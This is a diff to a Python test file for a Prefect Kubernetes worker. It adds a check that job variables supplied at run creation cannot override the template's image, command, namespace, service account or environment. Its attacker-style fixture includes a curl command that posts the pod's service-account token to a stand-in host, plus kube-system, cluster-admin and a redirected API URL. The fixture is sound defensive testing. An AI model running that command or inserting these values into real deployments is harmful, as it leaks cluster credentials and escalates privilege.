@@ -109,10 +109,14 @@ class Rendered:
 
 
 def render_job(
-    deployment: dict[str, Any], template: dict[str, Any], job_variables: dict[str, Any]
+    deployment: dict[str, Any],
+    template: dict[str, Any],
+    job_variables: dict[str, Any],
+    run_job_variables: dict[str, Any] | None = None,
 ) -> Rendered:
     """The Job manifest prefect-kubernetes' worker builds for a flow run of `deployment` on a
-    Kubernetes pool with `template`, the deployment carrying `job_variables`."""
+    Kubernetes pool with `template`, the deployment carrying `job_variables` and the run
+    `run_job_variables` (what a caller of the API may give the run it creates)."""
     path, _, function = deployment["entrypoint"].partition(":")
     module = importlib.import_module(path.removesuffix(".py").replace("/", "."))
     flow = Flow(id=uuid.uuid4(), name=getattr(module, function).name)
@@ -134,6 +138,7 @@ def render_job(
         deployment_id=registered.id,
         parameters=registered.parameters,
         work_pool_name=pool.name,
+        job_variables=run_job_variables or {},
     )
     configuration = asyncio.run(
         KubernetesWorkerJobConfiguration.resolve_for_flow_run(
@@ -225,8 +230,9 @@ def test_the_api_server_accepts_the_job_of_each_deployment(
     template = job_template()
     job_variables = pool_job_variables(deployment)
     expected = effective_variables(template, job_variables)
+    fixed = fixed_by_template(template)
     rendered = render_job(deployment, template, job_variables)
-    assert rendered.manifest["metadata"]["namespace"] == expected["namespace"]
+    assert rendered.manifest["metadata"]["namespace"] == fixed.namespace
 
     result = dry_run_create(
         platform.kubernetes.kubeconfig, job_namespace, retarget(rendered.manifest, job_namespace)
@@ -239,18 +245,68 @@ def test_the_api_server_accepts_the_job_of_each_deployment(
     assert job.spec.backoff_limit == 0
     assert job.spec.ttl_seconds_after_finished == expected["finished_job_ttl"]
     pod = job.spec.template.spec
-    assert pod.service_account_name == expected["service_account_name"]
+    assert pod.service_account_name == fixed.service_account
     assert pod.security_context.run_as_non_root is True
     [container] = pod.containers
-    assert container.image == expected["image"]
-    assert "{{" not in container.image
+    assert container.image == fixed.image
     assert container.args == ["prefect", "flow-run", "execute"]
     env = {variable.name: variable.value for variable in container.env}
     assert env["PREFECT__FLOW_RUN_ID"] == str(rendered.flow_run.id)
-    for name, value in job_variables["env"].items():
+    for name, value in fixed.env.items():
         assert env[name] == value, name
     assert set(container.resources.requests) == {"cpu", "memory"}
     assert set(container.resources.limits) == {"cpu", "memory"}
+
+
+@dataclass(frozen=True)
+class Fixed:
+    """What the template itself sets, which no job variable reaches."""
+
+    namespace: str
+    service_account: str
+    image: str
+    env: dict[str, str]
+
+
+def fixed_by_template(template: dict[str, Any]) -> Fixed:
+    configuration = template["job_configuration"]
+    pod = configuration["job_manifest"]["spec"]["template"]["spec"]
+    [container] = pod["containers"]
+    return Fixed(
+        configuration["namespace"],
+        pod["serviceAccountName"],
+        container["image"],
+        {variable["name"]: variable["value"] for variable in container["env"]},
+    )
+
+
+CRAFTED = {
+    "image": "registry.example/theirs:latest",
+    "command": "sh -c 'curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token x'",
+    "env": {"CONVEYOR_CONFIG": "/tmp/theirs.yaml", "PREFECT_API_URL": "http://theirs"},
+    "namespace": "kube-system",
+    "service_account_name": "cluster-admin",
+    "cluster_config": {"$ref": {"block_document_id": str(uuid.uuid4())}},
+}
+
+
+@pytest.mark.parametrize("deployment", DEPLOYMENTS[:1], ids=deployment_id)
+def test_a_runs_job_variables_cannot_choose_what_the_job_runs(deployment: dict[str, Any]) -> None:
+    """A caller of the API creates a run with job variables of its own: the Job still runs the
+    template's image, command and environment, in its namespace, as its service account."""
+    template = job_template()
+    fixed = fixed_by_template(template)
+    rendered = render_job(deployment, template, pool_job_variables(deployment), CRAFTED)
+    manifest = rendered.manifest
+    pod = manifest["spec"]["template"]["spec"]
+    [container] = pod["containers"]
+    assert manifest["metadata"]["namespace"] == fixed.namespace
+    assert pod["serviceAccountName"] == fixed.service_account
+    assert container["image"] == fixed.image
+    assert container["args"] == ["prefect", "flow-run", "execute"]
+    env = {variable["name"]: variable["value"] for variable in container["env"]}
+    assert "CONVEYOR_CONFIG" not in env and env.get("PREFECT_API_URL") != "http://theirs", env
+    assert {name: env[name] for name in fixed.env} == fixed.env
 
 
 def without_pod_security_context(template: dict[str, Any]) -> None:
